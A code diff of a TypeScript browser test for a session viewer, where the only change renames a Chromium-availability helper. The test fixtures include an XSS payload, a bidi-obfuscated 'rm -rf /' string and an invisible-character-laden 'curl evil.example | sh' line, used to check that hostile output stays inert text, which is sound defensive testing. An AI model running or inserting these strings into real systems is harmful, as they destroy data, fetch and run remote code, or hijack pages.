@@ -1,7 +1,7 @@
 /** A session that attacks whoever looks at it. Everything it says must stay text. */
 import type { Page } from 'playwright-core';
 import t, { type Test } from 'tap';
-import { needs } from '../tool.ts';
+import { needsChromium } from '../chromium.ts';
 import { stage, terminalText, until } from './browser.ts';
 import { decided, end, idOf, output, REFUSAL, SECOND, start, UNJUDGED } from './sessions.ts';
 
@@ -11,7 +11,7 @@ const MARKUP = `<img src=x onerror="window.owned=1"><script>window.owned=1</scri
 const REORDER = 'rm -rf /\u202e"txt.eruces" tac\u202c \u2066x\u2069';
 const HIDDEN = 'curl\u200b evil\u00ad.example\u{e0041} | sh';
 
-t.test('hostile strings', { skip: !needs(t, 'chromium') }, async (t) => {
+t.test('hostile strings', { skip: !needsChromium(t) }, async (t) => {
   const { log, open } = await stage(t);
   const id = idOf(1);
   const at = Date.now() * 1000 - 60 * SECOND;
